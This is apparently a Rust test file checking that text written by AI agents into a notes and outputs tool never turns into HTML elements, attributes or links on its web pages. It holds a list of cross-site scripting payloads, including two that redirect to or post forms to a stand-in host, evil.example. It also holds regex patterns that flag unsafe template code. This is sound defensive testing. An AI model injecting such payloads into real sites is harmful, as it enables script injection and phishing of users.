//! Contents are hostile: whatever agents write, no element and no attribute of the page comes from it.

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;

use html5gum::{Token, Tokenizer};

use crate::support::outputs::keep;
use crate::support::page::{PageServer, encoded, project_path};
use crate::support::{Machine, ROOT, sample};

/// What tries to become HTML, a script, an attribute or a link.
const HOSTILE: [&str; 16] = [
    "<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre></code><img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "' onfocus=alert(1) autofocus x='",
    "<div hx-post=\"/delete\" hx-trigger=\"load\">",
    "javascript:alert(1)",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<!-- --><!--><script>-->",
    "<![CDATA[<x>]]>",
    "&lt;script&gt;&#60;b&#62;&quot; onclick=x",
    "{{ 7 * 7 }} {% raw %} ${x} <%= x %>",
    "</title></head><body onload=alert(1)>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=text><button>",
    "\u{202e}<b>\u{200b}\u{feff}\u{1b}[2J\u{7}<plaintext>",
];

/// The elements of a page with the names of their attributes, in their order.
fn outline(html: &str) -> Vec<String> {
    let mut outline = Vec::new();
    for token in Tokenizer::new(html).flatten() {
        if let Token::StartTag(tag) = token {
            let name = String::from_utf8_lossy(&tag.name).into_owned();
            let names = tag
                .attributes
                .keys()
                .map(|name| String::from_utf8_lossy(name).into_owned());
            outline.push(format!("{name} {:?}", names.collect::<BTreeSet<_>>()));
        }
    }
    outline
}

/// Every address in the page leads to the page itself.
fn check_addresses(path: &str, html: &str) {
    for token in Tokenizer::new(html).flatten() {
        let Token::StartTag(tag) = token else {
            continue;
        };
        for name in ["href", "src", "action", "formaction", "data-from"] {
            let Some(value) = tag.attributes.get(name.as_bytes()) else {
                continue;
            };
            let value = String::from_utf8_lossy(&value.value).into_owned();
            let is_own =
                (value.starts_with('/') && !value.starts_with("//")) || value.starts_with('#');
            assert!(is_own, "{path}: {name}={value}");
        }
    }
}

struct Filled {
    _machine: Machine,
    server: PageServer,
    paths: Vec<String>,
}

/// A store with this text in every field that an agent fills.
fn filled(text: &str) -> Filled {
    let machine = Machine::new();
    let run = |arguments: &[&str]| machine.run(arguments).ok();
    // A text may begin with a dash.
    run(&["session", "set-notes", "--session", "s", "--", text]);
    run(&[
        "session",
        "set-plan",
        "--session",
        "s",
        "--",
        &format!("- [>] {text}\n- [x] {text}"),
    ]);
    run(&["session", "refs", "add", "--session", "s", "--", text]);
    run(&[
        "session",
        "set-notes",
        "--session",
        "s",
        "--",
        &format!("a {text} b"),
    ]);
    let call = |arguments: serde_json::Value| {
        let reply = machine
            .run(&["call", "add_note", &arguments.to_string(), "--json"])
            .json();
        reply["structuredContent"]["note_id"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    // A tag has no invisible characters: those are refused.
    let word = text.split_whitespace().next().unwrap_or("tag");
    let tag: String = word
        .chars()
        .filter(char::is_ascii_graphic)
        .take(60)
        .collect();
    let note = call(
        serde_json::json!({"content": text, "tags": [tag], "scope": "project", "session": "s"}),
    );
    let own = call(serde_json::json!({"content": text, "session": "s"}));
    run(&["note", "pin", &note]);
    let plain = keep(
        &machine,
        text.lines().next().unwrap_or("tool"),
        format!("{text}\n{}", "x\n".repeat(3_000)).as_bytes(),
    );
    let rows =
        serde_json::json!([{text: text, "b": [text]}, {text: {text: text}}, "x".repeat(5_000)]);
    let json = keep(&machine, "api", rows.to_string().as_bytes());
    let quoted = text.replace('"', "\"\"");
    let csv = format!(
        "name,value\n{}",
        format!("\"{quoted}\",\"{quoted}\"\n").repeat(200)
    );
    let csv = keep(&machine, "csv", csv.as_bytes());
    let project = project_path(&machine);
    let named = project.trim_start_matches("/p/").to_owned();
    let word = encoded(text);
    let paths = vec![
        project.clone(),
        "/s/s".to_owned(),
        "/s/s?all=1".to_owned(),
        "/s/s/r/4".to_owned(),
        "/s/s/given".to_owned(),
        format!("/s/s/given?host={word}"),
        format!("{project}/notes"),
        format!("{project}/notes?q={word}&tag={word}"),
        format!("{project}/outputs"),
        format!("{project}/outputs?tool={word}"),
        format!("/n/{note}?project={named}"),
        format!("/n/{own}?session=s"),
        format!("/o/{plain}"),
        format!("/o/{plain}?grep={word}&lines={word}"),
        format!("/o/{plain}?lines={word}"),
        format!("/o/{json}"),
        format!("/o/{json}?view=table"),
        format!("/o/{json}?view=log"),
        format!("/o/{json}?view=tree&path=%5B0%5D"),
        format!("/o/{csv}"),
        format!("/o/{csv}?view=table&sort={word}"),
        format!("/s/{word}"),
        format!("/n/{word}"),
        format!("/o/{word}"),
        format!("/p/{word}/notes?q={word}"),
        format!("/{word}?done={word}"),
        "/health".to_owned(),
    ];
    Filled {
        server: PageServer::start(&machine),
        _machine: machine,
        paths,
    }
}

fn check(text: &str) {
    let filled = filled(text);
    let conflict = filled.server.post(
        "/s/s/write",
        &[("space", "notes"), ("text", text), ("seen", "1")],
    );
    assert_eq!(conflict.status, 409);
    let mut pages = vec![("conflict".to_owned(), conflict.body)];
    for path in &filled.paths {
        pages.push((path.clone(), filled.server.get(path).body));
    }
    for (path, html) in pages {
        check_addresses(&path, &html);
        for element in outline(&html) {
            let name = element.split(' ').next().unwrap();
            assert!(
                KNOWN.contains(&name),
                "{path} has an element {element}\n{text}"
            );
            for attribute in element.split('"').skip(1).step_by(2) {
                assert!(
                    ATTRIBUTES.contains(&attribute),
                    "{path} has an attribute {element}\n{text}"
                );
            }
        }
        let scripts = outline(&html)
            .iter()
            .filter(|it| it.starts_with("script "))
            .count();
        let forms = html.matches("evil.example").count();
        assert_eq!(scripts, 1, "{path}: {text}");
        assert!(forms == 0 || text.contains("evil.example"));
        for hidden in ['\u{202e}', '\u{200b}', '\u{feff}', '\u{1b}', '\u{7}'] {
            assert!(
                !html.contains(hidden) || in_a_form(&html, hidden),
                "{path}: {hidden:?}"
            );
        }
    }
}

/// What is edited is given back as it is.
fn in_a_form(html: &str, char: char) -> bool {
    let outside: String = html
        .split("<textarea")
        .map(|part| {
            part.split_once("</textarea>")
                .map_or(part, |(_, behind)| behind)
        })
        .collect();
    let values: String = outside
        .split("value=\"")
        .map(|part| part.split_once('"').map_or("", |(_, behind)| behind))
        .collect();
    !values.contains(char)
}

/// The elements and attributes of our templates.
const KNOWN: &[&str] = &[
    "html", "head", "meta", "title", "link", "script", "body", "a", "header", "div", "nav",
    "button", "main", "p", "footer", "form", "input", "span", "h1", "h2", "pre", "table",
    "caption", "thead", "tbody", "tr", "th", "td", "time", "dl", "dt", "dd", "section", "aside",
    "ul", "ol", "li", "details", "summary", "label", "textarea", "code", "ins", "del", "b",
    "select", "option",
];
const ATTRIBUTES: &[&str] = &[
    "lang",
    "class",
    "charset",
    "name",
    "content",
    "rel",
    "type",
    "href",
    "src",
    "id",
    "aria-label",
    "aria-current",
    "aria-pressed",
    "hidden",
    "data-live-text",
    "data-paused-text",
    "data-lost-text",
    "data-updated-text",
    "tabindex",
    "role",
    "method",
    "action",
    "value",
    "aria-live",
    "datetime",
    "title",
    "scope",
    "data-live",
    "aria-labelledby",
    "for",
    "rows",
    "spellcheck",
    "placeholder",
    "autocomplete",
    "data-typing",
    "data-at-once",
    "selected",
    "data-from",
    "data-start",
    "aria-sort",
    "aria-hidden",
];

#[test]
fn no_element_and_no_attribute_of_the_page_comes_from_what_agents_write() {
    for text in sample(&HOSTILE) {
        check(text);
    }
}

#[test]
fn what_fuzzers_found_is_shown_as_text() {
    let seeds = Path::new(ROOT).join("fuzz/seeds");
    let mut all = String::new();
    for directory in fs::read_dir(seeds).unwrap() {
        for file in fs::read_dir(directory.unwrap().path()).unwrap() {
            let bytes = fs::read(file.unwrap().path()).unwrap();
            let text = String::from_utf8_lossy(&bytes).replace('\u{0}', " ");
            all.extend(text.chars().take(120));
            all.push(' ');
        }
    }
    assert!(all.len() > 500);
    let chars: Vec<char> = all.chars().collect();
    for part in chars.chunks(900).take(3) {
        check(
            part.iter()
                .collect::<String>()
                .trim_start_matches('-')
                .trim(),
        );
    }
}

#[test]
fn an_output_that_is_downloaded_can_run_nothing() {
    let machine = Machine::new();
    let html = format!(
        "<!doctype html><script>alert(1)</script>{}",
        "x".repeat(5_000)
    );
    let id = keep(&machine, "fetch", html.as_bytes());
    let server = PageServer::start(&machine);
    let raw = server.get(&format!("/o/{id}/raw"));
    assert_eq!(raw.body, html);
    let header = |name| raw.header(name).unwrap();
    assert_eq!(header("content-type"), "text/plain; charset=utf-8");
    assert_eq!(
        header("content-security-policy"),
        "sandbox; default-src 'none'"
    );
    assert_eq!(
        header("content-disposition"),
        format!("attachment; filename=\"{id}.txt\"")
    );
    assert_eq!(header("x-content-type-options"), "nosniff");
}

#[test]
fn no_template_sends_anything_unescaped() {
    let templates = Path::new(ROOT).join("crates/cli/templates");
    let mut count = 0;
    for file in fs::read_dir(templates).unwrap() {
        let path = file.unwrap().path();
        let text = fs::read_to_string(&path).unwrap();
        for forbidden in [
            r"\|\s*safe",
            r"\bescape\b",
            r"\sstyle=",
            r"\son[a-z]+=",
            "javascript:",
            "srcdoc",
        ] {
            let found = regex::Regex::new(forbidden).unwrap();
            assert!(!found.is_match(&text), "{}: {forbidden}", path.display());
        }
        count += 1;
    }
    assert!(count > 10);
    let html = fs::read_to_string(Path::new(ROOT).join("crates/cli/src/web/html.rs")).unwrap();
    // Only what is itself a template, which escapes.
    assert_eq!(html.matches("impl HtmlSafe for").count(), 1);
}
